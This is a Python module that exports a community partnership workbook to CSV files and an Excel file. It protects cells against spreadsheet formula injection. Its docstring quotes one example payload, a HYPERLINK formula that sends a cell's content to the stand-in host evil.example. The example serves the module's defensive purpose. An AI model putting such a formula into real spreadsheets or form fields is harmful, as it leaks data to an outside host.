"""The workbook's data as tables for partners' own tools: CSV files and one Excel workbook.

    >>> from workbook.export.tables import export_tables
    >>> export_tables(wb)          # exports/<partnership>/tables-<date>/*.csv + tables.xlsx

Tables: organisations, people, meetings, attendance, resources, problem_tree, solutions,
actions, health_checks, outcomes, readings, wins (a win's person only where consent to be
named is recorded). Each row keeps the stored ids, so tables can be joined again.

Formula injection
-----------------
A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some read a
leading tab or carriage return the same way) as a formula, so a participant could type
``=HYPERLINK("http://evil.example/?"&A1)`` into a field. Every text cell that starts with
one of those characters gets a leading apostrophe: ``'=HYPERLINK(...)`` shows as text.
Text that already starts with an apostrophe gets one more, so the guard can always be
taken off again: ``unguard`` removes exactly one leading apostrophe.

What a round trip through pandas preserves
------------------------------------------
Read a CSV with ``pandas.read_csv(path, dtype=str, keep_default_na=False,
encoding="utf-8-sig")``, or the Excel sheets with ``pandas.read_excel(path,
sheet_name=None, keep_default_na=False)`` (so texts such as "NaN" or "NA" stay text), and
apply ``unguard`` to the text columns. Every text value then comes back exactly (line
breaks, quotes, commas, accents and emoji included); ids and numbers as integers; yes/no
fields as ``True``/``False``; dates as ``YYYY-MM-DD`` text in CSV and as dates in Excel.
Lists (a meeting's agenda and decisions) are joined with line breaks; empty values come
back as empty text. One difference in Excel: xlsx keeps text as XML, which reads a
carriage return back as a line feed.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
from collections.abc import Callable, Iterable, Mapping, Sequence
from pathlib import Path
from typing import Any

from .. import reference
from ..errors import Sentence
from ..i18n import N_
from ..model import (
    ActionItem,
    Cause,
    HealthCheck,
    Meeting,
    Organisation,
    Outcome,
    Person,
    Problem,
    Resource,
    Solution,
    Win,
)
from ..store import Workbook
from ..store.files import refuse_own_source
from .cells import FORMULA_STARTS, Table, guard, unguard, xlsx_cell
from .files import claim_partnership_folder, default_root, partnership_folder, write_atomic

__all__ = ["FORMULA_STARTS", "Table", "collect_tables", "export_tables", "guard", "unguard"]

def _lines(items: Iterable[str]) -> str:
    return "\n".join(items)


def collect_tables(wb: Workbook, *, today: dt.date | None = None) -> list[Table]:
    """Every exported table, read from ``wb`` in one pass per entity."""
    today = today or dt.date.today()
    orgs = {o.id: o for o in wb.all(Organisation)}
    people = {p.id: p for p in wb.all(Person)}
    meetings = {m.id: m for m in wb.all(Meeting)}
    resources = {r.id: r for r in wb.all(Resource)}

    def org(org_id: int | None) -> str:
        return orgs[org_id].name if org_id in orgs else ""

    def person(person_id: int | None) -> str:
        return people[person_id].name if person_id in people else ""

    tables = [
        _table("organisations", orgs.values(), (
            ("id", lambda o: o.id), ("name", lambda o: o.name),
            ("partner_type", lambda o: o.partner_type),
            ("partner_type_title", lambda o: reference.PARTNER_TYPES.get(o.partner_type, "")),
            ("status", lambda o: o.status), ("mission", lambda o: o.mission),
            ("competencies", lambda o: o.competencies),
            ("decision_making", lambda o: o.decision_making),
            ("financing", lambda o: o.financing), ("culture", lambda o: o.culture),
            ("brings", lambda o: o.brings), ("needs", lambda o: o.needs),
            ("website", lambda o: o.website))),
        _table("people", people.values(), (
            ("id", lambda p: p.id), ("name", lambda p: p.name),
            ("organisation_id", lambda p: p.organisation_id),
            ("organisation", lambda p: org(p.organisation_id)), ("role", lambda p: p.role),
            ("email", lambda p: p.email))),
        _meetings(wb, meetings),
        _attendance(wb, meetings, people, org),
        _table("resources", resources.values(), (
            ("id", lambda r: r.id), ("name", lambda r: r.name),
            ("kind", lambda r: r.resource_kind), ("owner_id", lambda r: r.owner_id),
            ("owner", lambda r: org(r.owner_id)), ("target_group", lambda r: r.target_group),
            ("eligibility", lambda r: r.eligibility), ("capacity", lambda r: r.capacity),
            ("funding_source", lambda r: r.funding_source), ("referral", lambda r: r.referral),
            ("status", lambda r: r.status), ("found_on", lambda r: r.found_on),
            ("notes", lambda r: r.notes), ("created_at", lambda r: r.created_at),
            ("updated_at", lambda r: r.updated_at))),
        _problem_tree(wb, resources, person),
        _table("solutions", wb.all(Solution), (
            ("id", lambda s: s.id), ("problem_id", lambda s: s.problem_id),
            ("cause_id", lambda s: s.cause_id), ("description", lambda s: s.description),
            ("kind", lambda s: s.solution_kind), ("resource_id", lambda s: s.resource_id),
            ("resource", lambda s: resources[s.resource_id].name
             if s.resource_id in resources else ""),
            ("status", lambda s: s.status), ("tried_before", lambda s: s.tried_before),
            ("tried_on", lambda s: s.tried_on), ("lessons", lambda s: s.lessons))),
        _table("actions", wb.all(ActionItem), (
            ("id", lambda a: a.id), ("action", lambda a: a.action),
            ("organisation_id", lambda a: a.organisation_id),
            ("organisation", lambda a: org(a.organisation_id)),
            ("owner_id", lambda a: a.owner_id), ("owner", lambda a: person(a.owner_id)),
            ("due_on", lambda a: a.due_on), ("status", lambda a: a.status),
            ("overdue", lambda a: bool(a.is_open and a.due_on and a.due_on < today)),
            ("meeting_id", lambda a: a.meeting_id),
            ("meeting_on", lambda a: meetings[a.meeting_id].held_on
             if a.meeting_id in meetings else None),
            ("done_on", lambda a: a.done_on), ("notes", lambda a: a.notes))),
        _table("health_checks", wb.all(HealthCheck), (
            ("id", lambda h: h.id), ("organisation_id", lambda h: h.organisation_id),
            ("organisation", lambda h: org(h.organisation_id)),
            ("checked_on", lambda h: h.checked_on),
            *((q.key, (lambda key: lambda h: getattr(h, key))(q.key))
              for q in reference.HEALTH_QUESTIONS),
            ("score", lambda h: h.score), ("notes", lambda h: h.notes))),
        *_measurement(wb, org),
    ]
    return tables


def _table(name: str, items: Iterable[Any],
           columns: Sequence[tuple[str, Callable[[Any], Any]]]) -> Table:
    getters = [get for _, get in columns]
    return Table(name, tuple(c for c, _ in columns),
                 [tuple(get(item) for get in getters) for item in items])


def _measurement(wb: Workbook, org: Callable[[int | None], str]) -> list[Table]:
    """Outcomes, their readings (oldest first) and the wins with the partners credited."""
    outcomes = {o.id: o for o in wb.all(Outcome)}
    credited: dict[int, list[str]] = {}
    for win_id, org_id in wb.win_partner_rows():
        credited.setdefault(win_id, []).append(org(org_id))

    def outcome(outcome_id: int | None) -> str:
        return outcomes[outcome_id].description if outcome_id in outcomes else ""

    return [
        _table("outcomes", outcomes.values(), (
            ("id", lambda o: o.id), ("description", lambda o: o.description),
            ("measure", lambda o: o.measure), ("unit", lambda o: o.unit),
            ("direction", lambda o: o.direction), ("indicator", lambda o: o.indicator or ""),
            ("baseline_value", lambda o: o.baseline_value),
            ("benchmark_value", lambda o: o.benchmark_value), ("benchmark", lambda o: o.benchmark),
            ("target_value", lambda o: o.target_value), ("target", lambda o: o.target),
            ("due_on", lambda o: o.due_on), ("owner_id", lambda o: o.owner_id),
            ("owner", lambda o: org(o.owner_id)))),
        _table("readings", wb.readings(), (
            ("id", lambda r: r.id), ("outcome_id", lambda r: r.outcome_id),
            ("outcome", lambda r: outcome(r.outcome_id)), ("read_on", lambda r: r.read_on),
            ("value", lambda r: r.value), ("unit", lambda r: outcomes[r.outcome_id].unit
                                           if r.outcome_id in outcomes else ""),
            ("text", lambda r: r.text), ("reported_by", lambda r: r.reported_by),
            ("organisation_id", lambda r: r.organisation_id),
            ("organisation", lambda r: org(r.organisation_id)), ("source", lambda r: r.source),
            ("note", lambda r: r.note))),
        _table("wins", sorted(wb.all(Win), key=lambda w: (w.won_on, w.id or 0)), (
            ("id", lambda w: w.id), ("won_on", lambda w: w.won_on),
            ("kind", lambda w: w.win_kind), ("description", lambda w: w.description),
            ("person", lambda w: w.person_name if w.names_person else ""),
            ("consent_on", lambda w: w.consent_on if w.names_person else None),
            ("partners", lambda w: _lines(sorted(credited.get(w.id or 0, []),
                                                 key=str.casefold))),
            ("outcome_id", lambda w: w.outcome_id), ("outcome", lambda w: outcome(w.outcome_id)),
            ("meeting_id", lambda w: w.meeting_id), ("story", lambda w: w.story))),
    ]


def _meetings(wb: Workbook, meetings: Mapping[int | None, Meeting]) -> Table:
    decided: dict[int, list[str]] = {}
    for decision in wb.decisions():
        decided.setdefault(decision.meeting_id, []).append(decision.text)
    present: dict[int, int] = {}
    for meeting_id, _ in wb.attendance_rows():
        present[meeting_id] = present.get(meeting_id, 0) + 1
    return _table("meetings", meetings.values(), (
        ("id", lambda m: m.id), ("held_on", lambda m: m.held_on),
        ("kind", lambda m: m.kind_of), ("objective", lambda m: m.objective),
        ("location", lambda m: m.location), ("agenda", lambda m: _lines(m.agenda)),
        ("decisions", lambda m: _lines(decided.get(m.id, ()))), ("notes", lambda m: m.notes),
        ("attendees", lambda m: present.get(m.id, 0))))


def _attendance(wb: Workbook, meetings: Mapping[int | None, Meeting],
                people: Mapping[int | None, Person],
                org: Callable[[int | None], str]) -> Table:
    rows = sorted(wb.attendance_rows())
    return Table("attendance", ("meeting_id", "held_on", "person_id", "person",
                                "organisation"),
                 [(m, meetings[m].held_on if m in meetings else None, p,
                   people[p].name if p in people else "",
                   org(people[p].organisation_id) if p in people else "")
                  for m, p in rows])


def _problem_tree(wb: Workbook, resources: Mapping[int | None, Resource],
                  person: Callable[[int | None], str]) -> Table:
    """One row per cause in outline order (depth 1 answers the problem's first why);
    a problem with no cause yet gets one row with the cause columns empty."""
    linked: dict[int | None, list[str]] = {}
    for resource_id, cause_id in wb.resource_links():
        if resource_id in resources:
            linked.setdefault(cause_id, []).append(resources[resource_id].name)
    causes = wb.all(Cause)
    children: dict[tuple[int | None, int | None], list[Cause]] = {}
    for cause in causes:
        children.setdefault((cause.problem_id, cause.parent_id), []).append(cause)
    rows: list[tuple[Any, ...]] = []
    for problem in wb.all(Problem):
        head = (problem.id, problem.statement, person(problem.raised_by_id), problem.raised_on)
        stack = [(1, c) for c in reversed(children.get((problem.id, None), []))]
        if not stack:
            rows.append((*head, None, None, None, "", "", False, ""))
        while stack:
            depth, cause = stack.pop()
            rows.append((*head, cause.id, cause.parent_id, depth, cause.statement,
                         cause.evidence, cause.is_root, _lines(sorted(linked.get(cause.id, [])))))
            stack.extend((depth + 1, c)
                         for c in reversed(children.get((problem.id, cause.id), [])))
    return Table("problem_tree", ("problem_id", "problem", "raised_by", "raised_on",
                                  "cause_id", "parent_id", "depth", "cause", "evidence",
                                  "is_root", "resources"), rows)


# -- writing ------------------------------------------------------------------------


def _csv_cell(value: Any) -> Any:
    if value is None:
        return ""
    if isinstance(value, (dt.date, dt.datetime)):
        return value.isoformat()
    return guard(value)


def _csv_bytes(table: Table) -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(table.columns)
    writer.writerows(tuple(_csv_cell(v) for v in row) for row in table.rows)
    # utf-8-sig: the byte-order mark tells Excel the file is UTF-8.
    return buffer.getvalue().encode("utf-8-sig")


def _xlsx_bytes(tables: Sequence[Table]) -> bytes:
    from openpyxl import Workbook as ExcelBook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    book = ExcelBook(write_only=True)
    bold = Font(bold=True)
    for table in tables:
        sheet = book.create_sheet(table.name[:31])
        sheet.freeze_panes = "A2"
        header = []
        for column in table.columns:
            cell = WriteOnlyCell(sheet, value=column)
            cell.font = bold
            header.append(cell)
        sheet.append(header)
        for row in table.rows:
            sheet.append([xlsx_cell(sheet, v, WriteOnlyCell) for v in row])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def export_tables(wb: Workbook, out_dir: str | os.PathLike[str] | None = None, *,
                  today: dt.date | None = None, readable: bool = True,
                  folder: Path | None = None) -> Path:
    """Write every table as CSV and all of them as one ``tables.xlsx``; returns the folder.

    The folder is ``<root>/<partnership folder>/tables-<date>/``, the root being ``out_dir``
    or the default ``exports/`` folder (see ``files.default_root``); ``folder`` names it
    outright instead (the meeting packet's). ``readable`` (the default) writes the tables
    as people read them (``readable.py``: headers in words, names instead of ids, set
    widths); ``readable=False`` keeps the stored ids and column names, to join again.
    """
    today = today or dt.date.today()
    if folder is None:
        root = Path(out_dir) if out_dir is not None else default_root(wb)
        folder = partnership_folder(wb, root) / f"tables-{today.isoformat()}"
        claim_partnership_folder(wb, folder.parent)
    tables = collect_tables(wb, today=today)
    for output in [folder / f"{t.name}.csv" for t in tables] + [folder / "tables.xlsx"]:
        refuse_own_source(output, wb.path, what="the workbook",
                          fix=Sentence(N_("Export to another folder with --out.")))
    if readable:
        from .readable import as_table, readable_tables, xlsx_bytes

        sheets = readable_tables(tables)
        for sheet in sheets:
            write_atomic(folder / f"{sheet.name}.csv", _csv_bytes(as_table(sheet)))
        write_atomic(folder / "tables.xlsx", xlsx_bytes(sheets))
        return folder
    for table in tables:
        write_atomic(folder / f"{table.name}.csv", _csv_bytes(table))
    write_atomic(folder / "tables.xlsx", _xlsx_bytes(tables))
    return folder
